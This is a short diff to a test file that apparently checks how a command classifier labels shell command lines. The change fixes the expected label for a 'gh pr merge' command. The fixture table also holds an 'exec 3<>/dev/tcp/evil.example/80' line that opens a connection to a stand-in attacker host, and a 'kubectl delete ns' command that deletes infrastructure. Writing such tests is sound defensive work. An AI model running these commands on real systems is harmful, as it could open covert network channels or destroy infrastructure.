@@ -70,7 +70,7 @@ describe('R-CLS-1: what a command line would do', () => {
       'exec 3<>/dev/tcp/evil.example/80',
       ['net.connect Url http://evil.example:80/', 'shell.execute Program /dev/tcp ?'],
     ],
-    ['gh pr merge 1', ['pr.merge Repository .']],
+    ['gh pr merge 1', ['pr.merge PullRequest .#1']],
     ['kubectl delete ns x', ['infra.delete InfraObject kubectl/delete ns x']],
     ['npx tsc', ['code.execute Repository .']],
     ['npm test || true', ['control.weaken Repository .', 'code.execute Repository .']],
